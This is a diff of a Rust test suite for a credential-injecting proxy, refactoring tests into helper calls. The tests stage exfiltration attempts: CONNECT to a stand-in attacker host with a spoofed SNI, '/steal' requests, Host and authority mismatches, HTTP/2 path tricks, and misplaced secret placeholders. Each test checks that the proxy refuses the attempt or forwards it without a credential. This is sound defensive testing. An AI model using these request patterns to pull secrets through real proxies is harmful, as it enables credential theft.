@@ -7,7 +7,7 @@ use http_body_util::Full;
 use serde_json::json;
 
 use crate::support::agent::{self, basic};
-use crate::support::{TestApp, spawn_app};
+use crate::support::{TestApp, assert_proxy_error, fetch, spawn_app};
 
 const SECRET: &str = "sk_exfil_0123456789abcdef";
 
@@ -34,10 +34,7 @@ const SERVICES: &str = r#"
 "#;
 
 async fn setup(app: &TestApp, vault: &str) -> String {
-    app.create_vault(vault).await;
-    app.set_credentials(vault, &[("KEY", SECRET)]).await;
-    app.set_services_yaml(vault, SERVICES).await;
-    app.proxy_token(vault).await.0
+    app.service_vault(vault, &[("KEY", SECRET)], SERVICES).await
 }
 
 fn status(raw: &str) -> u16 {
@@ -64,18 +61,12 @@ async fn exfil_connect_to_attacker_host_with_service_host_and_sni() {
     let app = spawn_app().await;
     let token = setup(&app, "exfil-connect").await;
     let auth = basic(&token, "exfil-connect");
-    let tcp = agent::connect(app.proxy, "evil.example.test:443", Some(&auth))
-        .await
-        .unwrap();
     // The splice reaches the upstream as is: its own certificate, no interception.
-    let tls = agent::tls(tcp, Some("api.example.test"), None, &[b"http/1.1"])
-        .await
-        .unwrap();
-    let req = Request::get("/steal")
-        .header("host", "api.example.test")
-        .body(Full::new(Bytes::new()))
-        .unwrap();
-    assert_eq!(agent::send(tls, req).await.unwrap().status(), 200);
+    let resp = agent::dial(app.proxy, &auth, "evil.example.test:443")
+        .sni("api.example.test")
+        .get("/steal", "api.example.test")
+        .await;
+    assert_eq!(resp.status(), 200);
     let seen = app.upstream.last();
     assert_eq!(seen.path_and_query, "/steal");
     assert_eq!(seen.header("authorization"), None, "nothing attached");
@@ -105,11 +96,10 @@ async fn exfil_absolute_form_and_host_disagreeing_are_misdirected() {
         ("https://evil.example.test/x", "api.example.test"),
         ("https://api.example.test/x", "api.example.test:8443"),
     ] {
-        let stream = tokio::net::TcpStream::connect(app.proxy).await.unwrap();
         let raw = format!(
             "GET {uri} HTTP/1.1\r\nHost: {host}\r\nProxy-Authorization: {auth}\r\nConnection: close\r\n\r\n"
         );
-        let out = agent::raw_exchange(stream, raw.as_bytes()).await;
+        let out = agent::plain(app.proxy, raw.as_bytes()).await;
         assert_eq!(status(&out), 421, "{uri} / {host}: {out}");
         assert!(
             out.contains("x-agent-vault-proxy-error: host_mismatch"),
@@ -140,19 +130,12 @@ async fn exfil_absolute_form_and_host_disagreeing_are_misdirected() {
     let tls = app
         .tunnel(&token, "exfil-host", "api.example.test", &[b"h2"])
         .await;
-    let (mut sender, conn) = hyper::client::conn::http2::handshake(
-        hyper_util::rt::TokioExecutor::new(),
-        hyper_util::rt::TokioIo::new(tls),
-    )
-    .await
-    .unwrap();
-    tokio::spawn(conn);
+    let mut sender = agent::http2(tls).await;
     let req = Request::get("https://evil.example.test/x")
         .body(Full::new(Bytes::new()))
         .unwrap();
     let resp = sender.send_request(req).await.unwrap();
-    assert_eq!(resp.status(), 421);
-    assert_eq!(resp.headers()["x-agent-vault-proxy-error"], "host_mismatch");
+    assert_proxy_error(&resp, 421, "host_mismatch");
     assert_eq!(app.upstream.count(), before, "nothing was forwarded");
 }
 
@@ -192,24 +175,12 @@ async fn exfil_host_spellings_route_canonically() {
             "xn--bcher-kva.example.test",
         ),
     ] {
-        let tcp = agent::connect(app.proxy, connect, Some(&auth))
-            .await
-            .unwrap_or_else(|e| panic!("{connect}: {e:?}"));
-        let tls = agent::tls(tcp, Some(canonical), Some(&ca), &[b"http/1.1"])
-            .await
-            .unwrap();
-        let req = Request::get("/spelled")
-            .header(
-                "host",
-                http::HeaderValue::from_bytes(host.as_bytes()).unwrap(),
-            )
-            .body(Full::new(Bytes::new()))
-            .unwrap();
-        assert_eq!(
-            agent::send(tls, req).await.unwrap().status(),
-            200,
-            "{connect} {host}"
-        );
+        let resp = agent::dial(app.proxy, &auth, connect)
+            .sni(canonical)
+            .trusting(&ca)
+            .get("/spelled", host)
+            .await;
+        assert_eq!(resp.status(), 200, "{connect} {host}");
         let seen = app.upstream.last();
         assert_eq!(seen.sni.as_deref(), Some(canonical), "{connect}");
         assert_eq!(
@@ -308,11 +279,7 @@ async fn exfil_placeholders_outside_declared_locations_are_refused() {
     let app = spawn_app().await;
     let token = setup(&app, "exfil-ph").await;
     let agent = app.agent(&token, "exfil-ph").await;
-    let resp = agent
-        .get("https://tg.example.test/bot__TG_TOKEN__/getMe")
-        .send()
-        .await
-        .unwrap();
+    let resp = fetch(agent.get("https://tg.example.test/bot__TG_TOKEN__/getMe")).await;
     assert_eq!(resp.status(), 200);
     assert_eq!(
         app.upstream.last().path_and_query,
@@ -339,11 +306,7 @@ async fn exfil_placeholders_outside_declared_locations_are_refused() {
     ];
     for req in refused {
         let resp = req.send().await.unwrap();
-        assert_eq!(resp.status(), 403);
-        assert_eq!(
-            resp.headers()["x-agent-vault-proxy-error"],
-            "placeholder_refused"
-        );
+        assert_proxy_error(&resp, 403, "placeholder_refused");
     }
     assert_eq!(app.upstream.count(), before, "nothing was sent");
     // A body is not a declared location: the placeholder travels as the literal text it is.
@@ -558,11 +521,7 @@ async fn exfil_method_override_is_refused_for_method_scoped_services() {
         assert_eq!(resp.status(), 400, "{header:?} {query}");
         assert_eq!(resp.headers()["x-agent-vault-proxy-error"], "bad_request");
     }
-    let resp = agent
-        .delete("https://scoped.example.test/v1/repo")
-        .send()
-        .await
-        .unwrap();
+    let resp = fetch(agent.delete("https://scoped.example.test/v1/repo")).await;
     assert_eq!(resp.status(), 200, "DELETE itself just gets no credential");
     assert_eq!(app.upstream.last().header("authorization"), None);
     assert_eq!(app.upstream.count(), before + 1);
@@ -574,15 +533,13 @@ async fn exfil_method_override_is_refused_for_method_scoped_services() {
 #[tokio::test]
 async fn exfil_h2_path_that_rewrites_the_authority() {
     let app = spawn_app().await;
-    app.create_vault("h2path").await;
-    app.set_credentials("h2path", &[("KEY", SECRET)]).await;
-    app.set_services_yaml(
-        "h2path",
-        "- name: api\n  host: api.example.test\n  auth: {type: bearer, token: KEY}\n",
-    )
-    .await;
-    let (token, _) = app.proxy_token("h2path").await;
-    let ca = app.ca_pem().await;
+    let token = app
+        .service_vault(
+            "h2path",
+            &[("KEY", SECRET)],
+            "- name: api\n  host: api.example.test\n  auth: {type: bearer, token: KEY}\n",
+        )
+        .await;
     for path in [
         "@evil.example.test/steal",
         ".evil.example.test/steal",
@@ -590,23 +547,10 @@ async fn exfil_h2_path_that_rewrites_the_authority() {
         "evil",
         "*",
     ] {
-        let tunnel = agent::connect(
-            app.proxy,
-            "api.example.test:443",
-            Some(&basic(&token, "h2path")),
-        )
-        .await
-        .unwrap();
-        let tls = agent::tls(tunnel, Some("api.example.test"), Some(&ca), &[b"h2"])
-            .await
-            .unwrap();
-        let (mut sender, conn) = hyper::client::conn::http2::handshake(
-            hyper_util::rt::TokioExecutor::new(),
-            hyper_util::rt::TokioIo::new(tls),
-        )
-        .await
-        .unwrap();
-        tokio::spawn(conn);
+        let tls = app
+            .tunnel(&token, "h2path", "api.example.test", &[b"h2"])
+            .await;
+        let mut sender = agent::http2(tls).await;
         let mut parts = http::uri::Parts::default();
         parts.scheme = Some(http::uri::Scheme::HTTPS);
         parts.authority = Some(http::uri::Authority::from_static("api.example.test"));
@@ -649,11 +593,9 @@ const NOTES_SERVICES: &str = r#"
 "#;
 
 async fn notes_setup(app: &TestApp, vault: &str) -> reqwest::Client {
-    app.create_vault(vault).await;
-    app.set_credentials(vault, &[("NOTES_KEY", NOTES_SECRET)])
+    let token = app
+        .service_vault(vault, &[("NOTES_KEY", NOTES_SECRET)], NOTES_SERVICES)
         .await;
-    app.set_services_yaml(vault, NOTES_SERVICES).await;
-    let token = app.proxy_token(vault).await.0;
     app.agent(&token, vault).await
 }
 
@@ -725,11 +667,7 @@ async fn exfil_substitution_read_back_through_a_tunnel() {
         .tls_certs_only([upstream_ca])
         .build()
         .unwrap();
-    let read = tunneled
-        .get("https://readback.example.test/stored")
-        .send()
-        .await
-        .unwrap();
+    let read = fetch(tunneled.get("https://readback.example.test/stored")).await;
     assert_eq!(read.status(), 200, "the tunnel reaches the upstream");
     let stored = read.text().await.unwrap();
     assert!(
